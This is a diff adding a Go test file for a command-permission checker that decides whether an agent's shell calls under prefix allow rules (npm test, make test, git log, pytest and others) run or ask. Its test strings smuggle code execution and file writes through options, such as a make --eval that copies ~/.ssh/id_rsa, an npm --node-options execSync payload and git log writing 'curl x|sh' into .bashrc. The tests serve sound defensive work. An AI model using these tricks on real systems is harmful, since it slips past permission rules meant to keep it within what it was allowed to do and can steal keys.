@@ -1,0 +1,122 @@
+package permission
+
+import "testing"
+
+// TestPrefixRuleOptions: a prefix rule allows further operands, and
+// further options only when they are known to neither run or load code
+// or configuration, nor write a file, nor change directory; every other
+// word the rule does not name asks, however it is spelled.
+func TestPrefixRuleOptions(t *testing.T) {
+	npmRunTest := []string{"Bash(npm run test:*)"}
+	npmTest := []string{"Bash(npm test:*)"}
+	makeTest := []string{"Bash(make test:*)"}
+	gitLog := []string{"Bash(git log:*)"}
+	gitDiff := []string{"Bash(git diff:*)"}
+	goTest := []string{"Bash(go test:*)"}
+	sortAny := []string{"Bash(sort:*)"}
+	pytest := []string{"Bash(pytest:*)"}
+	cargoTest := []string{"Bash(cargo test:*)"}
+	asks := func(name string, allow []string, line, reason string) decideCase {
+		return decideCase{name: name, allow: allow, call: bash(line), want: Ask, reason: reason}
+	}
+	allows := func(name string, allow []string, line string) decideCase {
+		return decideCase{name: name, allow: allow, call: bash(line), want: Allow}
+	}
+	runDecide(t, []decideCase{
+		// what ran code or wrote a file through an allow rule
+		asks("npm node options", npmRunTest, `npm run test '--node-options=--import=data:text/javascript,import("child_process").then(c=>c.execSync("id"))'`,
+			"option --node-options is not named by the rule Bash(npm run test:*)"),
+		asks("make eval", makeTest, `make test '--eval=x:=$(shell cat ~/.ssh/id_rsa > /tmp/k)'`, "option --eval is not named"),
+		asks("git log output", gitLog, `git log -1 '--format=tformat:curl x|sh' --output=/var/tmp/ah/.bashrc`, "option --output is not named by the rule Bash(git log:*)"),
+		// the spellings of the same class
+		asks("make -E separate", makeTest, `make test -E 'x:=$(shell id)'`, "option -E"),
+		asks("make -E combined", makeTest, `make test -Ex:=1`, "option -Ex:"),
+		asks("make -E after a harmless flag", makeTest, `make test -sE 'x:=1'`, "option -sE"),
+		asks("make -f", makeTest, "make test -f /tmp/evil.mk", "option -f"),
+		asks("make -C", makeTest, "make test -C /tmp/evil", "option -C"),
+		asks("make --file=", makeTest, "make test --file=/tmp/evil.mk", "option --file"),
+		asks("make assignment", makeTest, "make test CC=/tmp/evil", "CC=/tmp/evil"),
+		asks("make := assignment", makeTest, `make test 'x:=$(shell id)'`, "the variable assignment x:=…"),
+		asks("make != assignment", makeTest, `make test 'x!=id'`, "the variable assignment x!=…"),
+		asks("make assignment after --", makeTest, "make test -- SHELL=/tmp/sh", "SHELL=/tmp/sh"),
+		asks("make assignment from an expansion", makeTest, "make test $X", "may expand to an option"),
+		asks("git diff --output=", gitDiff, "git diff --output=/tmp/x", "option --output"),
+		asks("git diff --output separate", gitDiff, "git diff --output /tmp/x", "option --output"),
+		asks("git log --output quoted", gitLog, `git log "--output=x"`, "option --output"),
+		asks("git log --output escaped", gitLog, `git log --out\put=x`, "option --output"),
+		asks("git log abbreviated --output", gitLog, "git log --outp=x", "option --outp"),
+		asks("git log -O is not listed", gitLog, "git log -Ofile", "option -Ofile"),
+		asks("sort -o", sortAny, "sort -o out x", "option -o"),
+		asks("sort -o combined", sortAny, "sort -oout x", "option -oout"),
+		asks("sort -o after flags", sortAny, "sort -ro out x", "option -ro"),
+		asks("sort --output", sortAny, "sort --output=out x", "option --output"),
+		asks("sort -T", sortAny, "sort -T /tmp/d x", "option -T"),
+		asks("go test -o", goTest, "go test -o /tmp/x ./...", "option -o"),
+		asks("go test -coverprofile=", goTest, "go test -coverprofile=c.out ./...", "option -coverprofile"),
+		asks("go test --coverprofile", goTest, "go test --coverprofile c.out ./...", "option --coverprofile"),
+		asks("go test -C", goTest, "go test -C /tmp/x ./...", "option -C"),
+		asks("go test -ldflags", goTest, "go test -ldflags=-extld=/tmp/x ./...", "option -ldflags"),
+		asks("go test -args", goTest, "go test ./... -args -test.coverprofile=x", "option -args"),
+		asks("go test past --", goTest, "go test ./... -- -test.coverprofile=x", "option -test.coverprofile"),
+		asks("npm --userconfig", npmTest, "npm test --userconfig=/tmp/rc", "option --userconfig"),
+		asks("npm --prefix", npmTest, "npm test --prefix /tmp/x", "option --prefix"),
+		asks("npm -w", npmTest, "npm test -w pkg", "option -w"),
+		asks("npm script options past --", npmTest, "npm test -- --require ./evil.js", "option --require"),
+		asks("npm run script options past --", npmRunTest, "npm run test -- --config=/tmp/x", "option --config"),
+		asks("pytest -c", pytest, "pytest -c evil.ini", "option -c"),
+		asks("pytest -c combined", pytest, "pytest -xcevil.ini", "option -xcevil.ini"),
+		asks("pytest -o addopts", pytest, "pytest -o addopts=-pevil", "option -o"),
+		asks("pytest -p", pytest, "pytest -p evil", "option -p"),
+		asks("pytest --rootdir", pytest, "pytest --rootdir=/tmp", "option --rootdir"),
+		asks("cargo --manifest-path=", cargoTest, "cargo test --manifest-path=/tmp/x/Cargo.toml", "option --manifest-path"),
+		asks("cargo --manifest-path separate", cargoTest, "cargo test --manifest-path /tmp/x/Cargo.toml", "option --manifest-path"),
+		asks("cargo --config", cargoTest, "cargo test --config 'build.rustc=\"/tmp/x\"'", "option --config"),
+		asks("cargo harness --logfile", cargoTest, "cargo test -- --logfile /tmp/x", "option --logfile"),
+		asks("an expansion may be an option", gitLog, "git log $X", "`$…` may expand to an option"),
+		asks("a quoted expansion may be an option", gitLog, `git log "$X"`, "may expand to an option"),
+		asks("a glob may match a file named as an option", gitLog, "git log *", "`*` may expand to an option"),
+		asks("a program forge does not know: any option", []string{"Bash(./build.sh:*)"}, "./build.sh --out=/tmp/x", "option --out"),
+		asks("git options before the subcommand", []string{"Bash(git:*)"}, "git -C /tmp/x status", "option -C"),
+		asks("git subcommand forge does not know", []string{"Bash(git:*)"}, "git frob --x", "option --x"),
+		asks("git branch -D", []string{"Bash(git branch:*)"}, "git branch -D main", "option -D"),
+		asks("find -delete", []string{"Bash(find:*)"}, "find . -delete", "option -delete"),
+		asks("find -fprint", []string{"Bash(find:*)"}, "find . -fprint /tmp/x", "option -fprint"),
+		asks("python -c", []string{"Bash(python3:*)"}, "python3 -c 'import os'", "option -c"),
+		asks("python -m pytest -p", []string{"Bash(python3 -m pytest:*)"}, "python3 -m pytest -p evil", "option -p"),
+		asks("xargs -a", []string{"Bash(xargs:*)", "Bash(grep:*)"}, "xargs -a /tmp/list grep x", "option -a"),
+		asks("xargs runs an option the inner rule does not name", []string{"Bash(xargs:*)", "Bash(go test:*)"}, "echo x | xargs go test -exec /tmp/x", "runs the program its option -exec names"),
+
+		// what keeps running without a question
+		allows("git log harmless", gitLog, `git log --oneline -n 5 --stat --graph --author "A B" --format=%H -5`),
+		allows("git log path past --", gitLog, "git log -- --output=x"),
+		allows("git log operand in a directory", gitLog, "git log ./*"),
+		allows("go test flags", goTest, "go test -race -v -count=1 -run TestX -short -cover ./..."),
+		allows("go test flags with two dashes", goTest, "go test --race -run=TestX ./..."),
+		allows("go test value as an expansion", goTest, "go test -run $T ./..."),
+		allows("ls -la", []string{"Bash(ls:*)"}, "ls -la --color=auto $D"),
+		allows("grep -rn", []string{"Bash(grep:*)"}, "grep -rn --include='*.go' foo ."),
+		allows("npm test --silent", npmTest, "npm test --silent"),
+		allows("npm run test operand", npmRunTest, "npm run test src/a.test.js"),
+		allows("make test harmless", makeTest, "make test -j4 -k -s --no-print-directory"),
+		allows("make test -j separate", makeTest, "make test -j 4"),
+		allows("pytest harmless", pytest, `pytest -x -q -k "not slow" -rA tests/`),
+		allows("python -m pytest", []string{"Bash(python3 -m pytest:*)"}, "python3 -m pytest -x -q tests"),
+		allows("cargo test harmless", cargoTest, "cargo test --release -p core -- --nocapture --test-threads=1"),
+		allows("find harmless", []string{"Bash(find:*)"}, "find . -name '*.go' -type f -not -path './vendor/*' -print0"),
+		{name: "find -exec of an allowed command", allow: []string{"Bash(find:*)", "Bash(ls:*)"}, call: bash(`find . -type f -exec ls -la {} \;`),
+			want: Allow, rule: "Bash(ls:*), Bash(find:*)"},
+		{name: "xargs of an allowed command", allow: []string{"Bash(ls:*)", "Bash(xargs:*)", "Bash(grep:*)"}, call: bash("ls | xargs -0 grep -n x"),
+			want: Allow, rule: "Bash(ls:*), Bash(xargs:*), Bash(grep:*)"},
+		allows("git commit -m", []string{"Bash(git commit:*)"}, `git commit -am "fix: x"`),
+		allows("rule that names the option", []string{"Bash(git log --output=x:*)"}, "git log --output=x -n 1"),
+		allows("exact rule", []string{"Bash(git log --output=x)"}, "git log --output=x"),
+		allows("sort harmless", sortAny, "sort -rn -k2,2 -t: x"),
+
+		// deny rules see through as before
+		{name: "deny sees options", allow: gitLog, deny: []string{"Bash(git log:*)"}, call: bash("git log --output=x"), want: Deny, rule: "Bash(git log:*)"},
+		{name: "deny sees make -E", mode: ModeYolo, deny: []string{"Bash(make:*)"}, call: bash("make test -E x"), want: Deny, rule: "Bash(make:*)"},
+		// with the sandbox on, sandboxed commands still run without asking
+		{name: "sandboxed", allow: []string{"Bash(git log:*)", "Bash(ls:*)"}, call: Call{Tool: "Bash", Args: bash("git log --output=x").Args, Sandbox: SandboxWorkspace},
+			want: Allow, reason: "runs in the sandbox"},
+	})
+}
